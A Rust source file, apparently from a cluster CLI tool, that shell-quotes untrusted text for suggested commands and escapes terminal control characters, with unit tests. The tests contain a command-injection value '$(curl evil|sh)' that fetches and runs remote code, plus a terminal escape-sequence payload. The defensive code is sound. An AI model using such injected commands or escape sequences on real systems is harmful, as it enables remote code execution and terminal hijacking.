//! Text from the cluster is untrusted: it goes into suggested commands only shell-quoted,
//! and onto a terminal only with its control characters escaped.

use std::borrow::Cow;
use std::fmt::Write;

/// A word a POSIX shell reads back as exactly `word`: unchanged when it holds only characters
/// no shell treats specially, else in single quotes (a `'` inside becomes `'\''`).
pub(crate) fn shell_quote(word: &str) -> Cow<'_, str> {
    let plain = |c: char| c.is_ascii_alphanumeric() || "._/:@%+=,-".contains(c);
    if !word.is_empty() && word.chars().all(plain) {
        return Cow::Borrowed(word);
    }
    Cow::Owned(format!("'{}'", word.replace('\'', r"'\''")))
}

/// `text` with every control character (C0, DEL and C1) but the line end written as
/// `\u{..}`, so a terminal shows it instead of obeying it. For human output only; JSON and
/// YAML stay exact.
pub(crate) fn escape_controls(text: &str) -> Cow<'_, str> {
    let escapes = |c: char| c.is_control() && c != '\n';
    if !text.chars().any(escapes) {
        return Cow::Borrowed(text);
    }
    let mut escaped = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        if escapes(c) {
            let _ = write!(escaped, "\\u{{{:x}}}", c as u32);
        } else {
            escaped.push(c);
        }
    }
    Cow::Owned(escaped)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quoting_keeps_plain_words_and_neutralizes_the_rest() {
        assert_eq!(shell_quote("deployment/web"), "deployment/web");
        assert_eq!(shell_quote("quay.io:5000"), "quay.io:5000");
        assert_eq!(shell_quote(""), "''");
        assert_eq!(shell_quote("$(curl evil|sh)"), "'$(curl evil|sh)'");
        assert_eq!(shell_quote("it's"), r"'it'\''s'");
        assert_eq!(shell_quote("a b;c"), "'a b;c'");
    }

    #[test]
    fn control_characters_are_shown_not_obeyed() {
        assert_eq!(escape_controls("plain text"), "plain text");
        assert_eq!(
            escape_controls("img\u{1b}]0;pwned\u{7}\u{1b}[2J"),
            r"img\u{1b}]0;pwned\u{7}\u{1b}[2J"
        );
        assert_eq!(
            escape_controls("a\nb\u{9b}c\r\t"),
            "a\nb\\u{9b}c\\u{d}\\u{9}"
        );
    }
}
